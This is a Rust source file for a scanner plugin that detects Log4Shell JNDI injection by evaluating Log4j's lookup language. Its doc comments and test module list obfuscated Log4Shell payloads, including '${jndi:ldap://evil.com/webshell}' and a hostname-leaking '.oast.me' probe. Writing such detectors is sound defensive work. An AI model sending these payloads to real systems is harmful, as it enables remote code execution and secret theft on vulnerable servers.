//! Log4Shell: JNDI lookups in values that a Log4j 2 logger would expand.
//!
//! Attackers hide `${jndi:ldap://...}` behind the lookup mini-language:
//! `${lower:j}`, `${upper:N}`, `${::-j}`, `${env:NaN:-j}`, `${date:'j'}`,
//! nested as `${${::-j}${::-n}di:...}`, or behind an escaped dollar whose
//! default rebuilds the lookup (`$${env:x:-$}{jndi:...}`). Rather than
//! matching spellings, [`JndiDetector`] evaluates every `${...}` the way
//! Log4j does, to the literal text it produces:
//!
//! - the content of a lookup is expanded first (inner lookups);
//! - `jndi:` keeps the lookup (that is the finding);
//! - `lower:` / `upper:` change case, `date:'x'` yields its quoted text;
//! - any other lookup (`env:`, `sys:`, `::`, unknown prefixes) is assumed
//!   to be unset and yields its `:-` default, or nothing;
//! - a result that again contains `${` is expanded again.
//!
//! Evaluation is bounded: at most [`MAX_LOOKUPS`] top-level lookups per
//! window, [`MAX_DEPTH`] levels of nesting, [`OUT_MAX`] bytes per result,
//! and a step budget linear in the window.
//!
//! Rules: `jndi.lookup` (95) for a JNDI lookup with a known protocol
//! (ldap, ldaps, rmi, dns, iiop, corba, nds, nis, http, https), 85 with
//! another one; `jndi.nested-lookup` (60) for nested lookups that build
//! text without reaching `jndi:` (an obfuscation probe); `jndi.env-lookup`
//! (40) for a lone Log4j lookup such as `${env:AWS_SECRET_KEY}` or
//! `${sys:java.version}`.

use rampart_plugin_api::{Class, DetectCtx, Detector, Finding, PluginInfo};

use crate::common::{lc, starts_ci, windows, Hits, Small};

const NAME: &str = "jndi";

/// Top-level lookups evaluated per window.
pub const MAX_LOOKUPS: usize = 64;
/// Nesting levels evaluated.
pub const MAX_DEPTH: u8 = 12;
/// Bytes kept of a lookup's content or result.
pub const OUT_MAX: usize = 384;

/// The Log4Shell detector.
#[derive(Debug, Clone, Copy, Default)]
pub struct JndiDetector;

impl Detector for JndiDetector {
    fn info(&self) -> PluginInfo {
        PluginInfo {
            name: NAME,
            version: env!("CARGO_PKG_VERSION"),
            description: "Log4Shell: JNDI lookups, found by evaluating the Log4j lookup language \
                          (nested and obfuscated forms included)",
        }
    }

    fn classes(&self) -> &'static [Class] {
        &[Class::Jndi]
    }

    fn inspect(&self, value: &[u8], ctx: &DetectCtx<'_>, out: &mut Vec<Finding>) {
        let mut hits = Hits::default();
        scan_value(value, &mut hits);
        hits.emit(ctx, Class::Jndi, NAME, value.len(), out);
    }
}

/// Scans a value into `hits`.
pub fn scan_value(value: &[u8], hits: &mut Hits) {
    for (off, w) in windows(value) {
        // Every lookup starts with a `$`.
        if w.len() >= 2 && w.contains(&b'$') {
            scan(w, off, hits);
            // `$&lbrace;jndi:...&rbrace;`: braces written as HTML entities,
            // for an application that decodes them before logging. Read
            // once more with the braces decoded (spans are approximate).
            if w.contains(&b'&') && w.windows(2).any(|p| p == b"$&") {
                if let Some(d) = decode_brace_entities(w) {
                    scan(&d, off, hits);
                }
            }
        }
    }
}

/// Entities of `{` and `}` (lower-case, `;` included).
const BRACE_ENTITIES: [(&[u8], u8); 8] = [
    (b"&lbrace;", b'{'),
    (b"&lcub;", b'{'),
    (b"&#123;", b'{'),
    (b"&#x7b;", b'{'),
    (b"&rbrace;", b'}'),
    (b"&rcub;", b'}'),
    (b"&#125;", b'}'),
    (b"&#x7d;", b'}'),
];

/// The text with brace entities decoded, when a `$` is followed by one
/// (`$&lbrace;`); `None` otherwise.
fn decode_brace_entities(w: &[u8]) -> Option<Vec<u8>> {
    let entity_at = |i: usize| {
        BRACE_ENTITIES
            .iter()
            .find(|(e, _)| crate::common::starts_ci(&w[i..], e))
            .copied()
    };
    let opens = w
        .windows(2)
        .enumerate()
        .any(|(i, p)| p == b"$&" && entity_at(i + 1).is_some_and(|(_, c)| c == b'{'));
    if !opens {
        return None;
    }
    let mut out = Vec::with_capacity(w.len());
    let mut i = 0;
    while i < w.len() {
        if w[i] == b'&' {
            if let Some((e, c)) = entity_at(i) {
                out.push(c);
                i += e.len();
                continue;
            }
        }
        out.push(w[i]);
        i += 1;
    }
    Some(out)
}

/// What the evaluation of a lookup saw.
#[derive(Debug, Default, Clone, Copy)]
struct Seen {
    /// 0: no JNDI; 1: JNDI with another protocol; 2: known protocol.
    jndi: u8,
    nested: bool,
    known_prefix: bool,
}

struct Eval {
    steps: usize,
    seen: Seen,
}

const PROTOCOLS: [&[u8]; 12] = [
    b"ldap",
    b"ldaps",
    b"rmi",
    b"dns",
    b"iiop",
    b"corba",
    b"nds",
    b"nis",
    b"http",
    b"https",
    b"iiopname",
    b"corbaname",
];

const PREFIXES: [&[u8]; 22] = [
    b"env:",
    b"sys:",
    b"java:",
    b"ctx:",
    b"main:",
    b"date:",
    b"lower:",
    b"upper:",
    b"jvmrunargs:",
    b"log4j:",
    b"marker:",
    b"bundle:",
    b"k8s:",
    b"docker:",
    b"spring:",
    b"web:",
    b"map:",
    b"sd:",
    b"event:",
    b"base64:",
    b"hostname",
    b"::-",
];

fn scan(w: &[u8], off: usize, hits: &mut Hits) {
    let mut ev = Eval {
        steps: w.len().saturating_mul(4) + 4096,
        seen: Seen::default(),
    };
    let mut i = 0;
    let mut n = 0;
    while i + 1 < w.len() {
        if !(w[i] == b'$' && w[i + 1] == b'{') {
            // Every finding starts at a `${`.
            match w[i + 1..].iter().position(|&c| c == b'$') {
                Some(p) => i += 1 + p,
                None => break,
            }
            continue;
        }
        if n >= MAX_LOOKUPS || ev.steps == 0 {
            break;
        }
        n += 1;
        ev.seen = Seen::default();
        let mut out = Small::<OUT_MAX>::default();
        let mut end = ev.lookup(w, i, w.len(), &mut out, 0);
        // `${x:-$}{jndi:...}`: a lookup that yields `$` before a brace
        // forms a new lookup with it.
        let mut k = 0;
        while out.last() == Some(b'$') && w.get(end) == Some(&b'{') && k < 8 {
            out.clear();
            end = ev.lookup_at(w, end, w.len(), &mut out, 0);
            k += 1;
        }
        let s = ev.seen;
        let (a, z) = (off + i, off + end);
        if s.jndi == 2 {
            hits.add("jndi.lookup", 95, a, z, "a Log4j JNDI lookup (Log4Shell)");
        } else if s.jndi == 1 {
            hits.add("jndi.lookup", 85, a, z, "a Log4j JNDI lookup (Log4Shell)");
        } else if s.nested {
            hits.add(
                "jndi.nested-lookup",
                60,
                a,
                z,
                "nested Log4j lookups building text",
            );
        } else if s.known_prefix {
            hits.add(
                "jndi.env-lookup",
                40,
                a,
                z,
                "a Log4j lookup of the environment",
            );
        }
        i = end.max(i + 2);
    }
}

/// The index of the `}` closing a brace opened before `i` (bare braces
/// nest too), or `None`.
fn match_brace(b: &[u8], mut i: usize, hi: usize) -> Option<usize> {
    let mut depth = 1usize;
    while i < hi {
        match b[i] {
            b'{' => depth += 1,
            b'}' => {
                depth -= 1;
                if depth == 0 {
                    return Some(i);
                }
            }
            _ => {}
        }
        i += 1;
    }
    None
}

impl Eval {
    /// Expands `b[i..hi]` into `out`.
    fn text<const N: usize>(
        &mut self,
        b: &[u8],
        mut i: usize,
        hi: usize,
        out: &mut Small<N>,
        depth: u8,
    ) {
        while i < hi {
            if self.steps == 0 {
                return;
            }
            self.steps -= 1;
            if b[i] == b'$' && i + 1 < hi && b[i + 1] == b'{' {
                if depth > 0 {
                    self.seen.nested = true;
                }
                i = self.lookup(b, i, hi, out, depth);
            } else {
                out.push(b[i]);
                i += 1;
            }
        }
    }

    /// Evaluates the lookup at `b[i] == '$'`, appending its value to
    /// `out`; returns the index after it.
    fn lookup<const N: usize>(
        &mut self,
        b: &[u8],
        i: usize,
        hi: usize,
        out: &mut Small<N>,
        depth: u8,
    ) -> usize {
        if depth >= MAX_DEPTH {
            out.push(b'$');
            return i + 1;
        }
        self.lookup_at(b, i + 1, hi, out, depth)
    }

    /// Evaluates the lookup whose `{` is at `o`.
    fn lookup_at<const N: usize>(
        &mut self,
        b: &[u8],
        o: usize,
        hi: usize,
        out: &mut Small<N>,
        depth: u8,
    ) -> usize {
        let close = match_brace(b, o + 1, hi);
        let end = close.unwrap_or(hi);
        let mut content = Small::<OUT_MAX>::default();
        self.text(b, o + 1, end, &mut content, depth + 1);
        let mut val = Small::<OUT_MAX>::default();
        self.apply(content.as_bytes(), &mut val);
        let v = val.as_bytes();
        if v.windows(2).any(|p| p == b"${") && depth + 1 < MAX_DEPTH {
            // The result is expanded again.
            let mut again = Small::<OUT_MAX>::default();
            self.text(v, 0, v.len(), &mut again, depth + 1);
            out.extend(again.as_bytes());
        } else {
            out.extend(v);
        }
        close.map_or(hi, |c| c + 1)
    }

    /// The value of a lookup whose content (already expanded) is `c`.
    fn apply<const N: usize>(&mut self, c: &[u8], out: &mut Small<N>) {
        let t = trim_ws(c);
        if starts_ci(t, b"jndi:") {
            let rest = &t[5..];
            let p = rest.iter().position(|&x| x == b':').unwrap_or(rest.len());
            let proto = &rest[..p];
            let known = PROTOCOLS.iter().any(|k| proto.eq_ignore_ascii_case(k));
            self.seen.jndi = self.seen.jndi.max(if known { 2 } else { 1 });
            out.extend(b"${");
            out.extend(t);
            out.push(b'}');
            return;
        }
        if PREFIXES.iter().any(|p| starts_ci(t, p)) {
            self.seen.known_prefix = true;
        }
        if starts_ci(t, b"lower:") {
            t[6..].iter().for_each(|&x| out.push(lc(x)));
            return;
        }
        if starts_ci(t, b"upper:") {
            t[6..]
                .iter()
                .for_each(|&x| out.push(x.to_ascii_uppercase()));
            return;
        }
        if let Some(p) = t.windows(2).position(|x| x == b":-") {
            out.extend(&t[p + 2..]);
            return;
        }
        if starts_ci(t, b"date:") {
            t[5..]
                .iter()
                .filter(|&&x| x != b'\'' && x != b'"')
                .for_each(|&x| out.push(x));
        }
        // Anything else is unset: nothing.
    }
}

fn trim_ws(c: &[u8]) -> &[u8] {
    let s = c
        .iter()
        .position(|x| !x.is_ascii_whitespace())
        .unwrap_or(c.len());
    &c[s..]
}

#[cfg(test)]
mod tests {
    use super::*;

    fn best(v: &str) -> (u8, bool) {
        let mut h = Hits::default();
        scan_value(v.as_bytes(), &mut h);
        (h.best(), h.has("jndi.lookup"))
    }

    #[test]
    fn obfuscations_resolve() {
        for v in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}${upper:n}${lower:d}i:ldap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
            "${${date:'j'}${date:'n'}di:dns://x}",
            "$${env:something:-${env:something:-$}{jndi:ldap://evil.com/webshell}}}",
            "${jndi:ldap://${hostName}.oast.me/a}",
            "${jNdI:LdAp://x}",
            "${jndi:ldap://x",
            "${:1337:-x$}{jndi:ldap://evil.com/webshell}",
        ] {
            assert_eq!(best(v), (95, true), "{v}");
        }
        assert_eq!(best("${env:USER}").0, 40);
        assert_eq!(best("${${::-a}b}").0, 60);
        assert_eq!(best("price is ${price}"), (0, false));
        assert_eq!(best("jndi:ldap://x"), (0, false));
    }
}
